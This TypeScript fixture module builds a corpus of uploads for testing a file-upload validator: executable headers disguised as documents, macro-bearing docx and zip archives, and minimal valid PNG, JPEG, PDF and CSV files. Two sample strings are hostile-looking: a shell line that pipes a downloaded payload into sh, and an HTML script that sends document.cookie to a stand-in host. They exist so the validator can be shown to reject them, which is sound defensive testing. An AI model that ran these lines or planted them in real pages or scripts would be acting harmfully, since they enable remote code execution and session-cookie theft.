// A corpus of uploads generated in code (no binary fixtures): executables and
// scripts that must be refused, and minimal valid files that must be accepted.
import { crc32, deflateSync } from 'node:zlib';
import yazl from 'yazl';

export interface CorpusItem {
  name: string;
  declaredType: string;
  fileName: string;
  body: Buffer;
}

export interface RefusedItem extends CorpusItem {
  status: 415 | 422;
  code: string;
  /** A word the refusal's `detected` must contain. */
  detected: RegExp;
}

/** Builds a zip of (name, bytes) entries with yazl. */
export async function makeZip(entries: Array<[string, Buffer]>): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  for (const [name, data] of entries) zip.addBuffer(data, name);
  zip.end();
  const parts: Buffer[] = [];
  for await (const p of zip.outputStream) parts.push(p as Buffer);
  return Buffer.concat(parts);
}

/** An ELF64 header (x86-64 executable) padded to 128 bytes. */
export function elf(): Buffer {
  const b = Buffer.alloc(128);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b, 0);
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // x86-64
  return b;
}

/** A PE: DOS header "MZ", e_lfanew → "PE\0\0", COFF machine x86-64. */
export function pe(): Buffer {
  const b = Buffer.alloc(256);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x8664, 0x84);
  return b;
}

/** A 64-bit Mach-O header (MH_MAGIC_64 little-endian, x86-64, MH_EXECUTE). */
export function machO(): Buffer {
  const b = Buffer.alloc(64);
  b.writeUInt32LE(0xfeedfacf, 0);
  b.writeUInt32LE(0x01000007, 4);
  b.writeUInt32LE(2, 12);
  return b;
}

/** A universal (fat) Mach-O header with two architectures. */
export function machOFat(): Buffer {
  const b = Buffer.alloc(64);
  b.writeUInt32BE(0xcafebabe, 0);
  b.writeUInt32BE(2, 4);
  return b;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}

/** A valid 2×2 RGB PNG. */
export function png(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(2, 0);
  ihdr.writeUInt32BE(2, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  const raw = Buffer.from([0, 255, 0, 0, 0, 255, 0, 0, 0, 0, 255, 255, 255, 255]);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(raw)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A valid 1×1 greyscale baseline JPEG (JFIF). */
export function jpeg(): Buffer {
  return Buffer.from(
    'ffd8ffe000104a46494600010100000100010000ffdb004300080606070605080707070909080a0c140d0c0b0b0c1912130f141d1a1f1e1d1a1c1c20242e2720222c231c1c2837292c30313434341f27393d38323c2e333432' +
      'ffc0000b080001000101011100ffc4001f0000010501010101010100000000000000000102030405060708090a0bffc400b5100002010303020403050504040000017d01020300041105122131410613516107227114328191a1082342b1c11552d1f02433627282090a161718191a25262728292a3435363738393a434445464748494a535455565758595a636465666768696a737475767778797a838485868788898a92939495969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6e7e8e9eaf1f2f3f4f5f6f7f8f9fa' +
      'ffda0008010100003f002bffd9',
    'hex',
  );
}

/** A minimal valid PDF 1.4 (one empty page) with a correct xref table. */
export function pdf(): Buffer {
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>',
  ];
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objs.forEach((o, i) => {
    offsets.push(Buffer.byteLength(out));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out);
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** A CSV of people-like rows (with a canary when given). */
export function csv(canary = 'none'): Buffer {
  return Buffer.from(`name,email,amount\nAda Lovelace,ada@example.com,12.50\nNote,${canary},3\n`, 'utf8');
}

export const SHELL_WITH_SHEBANG = Buffer.from('#!/bin/sh\necho "installing"\nexit 0\n');
export const SHELL_WITHOUT_SHEBANG = Buffer.from('cd /tmp\ncurl -fsSL http://example.invalid/payload | sh\nrm -rf /tmp/payload\n');
export const HTML_WITH_SCRIPT = Buffer.from('<!doctype html>\n<html><body><p>Invoice</p><script>fetch("https://example.invalid/?c="+document.cookie)</script></body></html>\n');

/** Uploads that must be refused, with the answer each must get. */
export async function refusedCorpus(): Promise<RefusedItem[]> {
  const exec = { status: 422 as const, code: 'VAULT_UPLOAD_EXECUTABLE' };
  return [
    { name: 'ELF executable declared as PDF', declaredType: 'application/pdf', fileName: 'report.pdf', body: elf(), ...exec, detected: /ELF/ },
    { name: 'PE executable declared as PNG', declaredType: 'image/png', fileName: 'photo.png', body: pe(), ...exec, detected: /PE/ },
    { name: 'Mach-O executable declared as JPEG', declaredType: 'image/jpeg', fileName: 'photo.jpg', body: machO(), ...exec, detected: /Mach-O/ },
    { name: 'Mach-O universal binary', declaredType: 'application/octet-stream', fileName: 'tool', body: machOFat(), ...exec, detected: /Mach-O/ },
    { name: 'shell script with a shebang as text', declaredType: 'text/plain', fileName: 'notes.txt', body: SHELL_WITH_SHEBANG, ...exec, detected: /shebang/ },
    { name: 'shell script without a shebang as text', declaredType: 'text/plain', fileName: 'notes.txt', body: SHELL_WITHOUT_SHEBANG, ...exec, detected: /shell/ },
    { name: 'HTML with a script as text', declaredType: 'text/plain', fileName: 'invoice.txt', body: HTML_WITH_SCRIPT, ...exec, detected: /script/ },
    {
      name: 'zip holding an .exe',
      declaredType: 'application/zip',
      fileName: 'documents.zip',
      body: await makeZip([['readme.txt', Buffer.from('hello\n')], ['setup.exe', pe()]]),
      ...exec,
      detected: /\.exe/,
    },
    {
      name: 'docx holding a macro project',
      declaredType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      fileName: 'letter.docx',
      body: await makeZip([
        ['[Content_Types].xml', Buffer.from('<?xml version="1.0"?><Types/>')],
        ['word/document.xml', Buffer.from('<?xml version="1.0"?><w:document/>')],
        ['word/vbaProject.bin', Buffer.from('macro')],
      ]),
      ...exec,
      detected: /\.bin/,
    },
    { name: 'PNG declared as JPEG', declaredType: 'image/jpeg', fileName: 'photo.jpg', body: png(), status: 415, code: 'VAULT_UPLOAD_TYPE_MISMATCH', detected: /image\/png/ },
    { name: 'PDF declared as CSV', declaredType: 'text/csv', fileName: 'data.csv', body: pdf(), status: 415, code: 'VAULT_UPLOAD_TYPE_MISMATCH', detected: /pdf/ },
  ];
}

/** Uploads that must be accepted: minimal valid files of the allowed types. */
export function acceptedCorpus(canary = 'none'): CorpusItem[] {
  return [
    { name: 'PDF', declaredType: 'application/pdf', fileName: 'contract.pdf', body: pdf() },
    { name: 'PNG', declaredType: 'image/png', fileName: 'avatar.png', body: png() },
    { name: 'JPEG (declared image/jpg)', declaredType: 'image/jpg', fileName: 'passport.jpg', body: jpeg() },
    { name: 'CSV', declaredType: 'text/csv; charset=utf-8', fileName: 'contacts.csv', body: csv(canary) },
  ];
}
